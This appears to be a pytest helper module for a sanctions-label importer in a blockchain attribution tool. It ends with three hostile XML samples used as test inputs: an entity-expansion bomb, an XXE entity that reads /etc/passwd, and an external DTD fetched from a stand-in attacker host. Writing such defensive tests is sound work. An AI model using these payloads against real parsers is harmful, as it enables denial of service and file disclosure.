"""Shared data, hostile documents and the import helper of the attribution tests."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from chainsleuth.audit.service import Actor
from chainsleuth.labels import service as label_service
from chainsleuth.labels.enums import ImportFormat, Tlp
from chainsleuth.labels.importers import parse
from chainsleuth.labels.imports import file_sha256
from chainsleuth.labels.schemas import ImportResult

DATA = Path("/work/shared/data")
TAGPACKS = DATA / "tagpacks"
OFAC = DATA / "ofac"
SDN_SAMPLE = OFAC / "sdn_advanced_format_sample.xml"
SDN_CSV = OFAC / "sdn-2024-05-03.csv"
needs_data = pytest.mark.skipif(not DATA.is_dir(), reason="shared data folder not present")
IMPORTER = Actor.system("test-import")


def import_file(
    session: Session,
    fmt: ImportFormat,
    path: Path,
    *,
    source_name: str | None = None,
    tlp: Tlp | None = None,
    allow_older: bool = False,
    skip_invalid: bool = False,
) -> ImportResult:
    """Parse ``path`` (a folder for ofac-lists) and import it as the test system actor."""
    if path.is_dir():
        parts = [(p.name, p.read_bytes()) for p in sorted(path.glob("sanctioned_addresses_*"))]
    else:
        parts = [(path.name, path.read_bytes())]
    parsed = parse(fmt, parts, skip_invalid=skip_invalid)
    return label_service.import_parsed(
        session,
        parsed=parsed,
        sha256=file_sha256(parts),
        file_name=parts[0][0],
        actor=IMPORTER,
        source_name=source_name,
        tlp=tlp,
        allow_older=allow_older,
    )


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Sanctions><DistinctParties>&lol3;</DistinctParties></Sanctions>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Sanctions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Sanctions><DistinctParties><DistinctParty>&xxe;</DistinctParty></DistinctParties></Sanctions>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Sanctions SYSTEM "http://attacker.example/evil.dtd">
<Sanctions><DistinctParties/></Sanctions>
"""
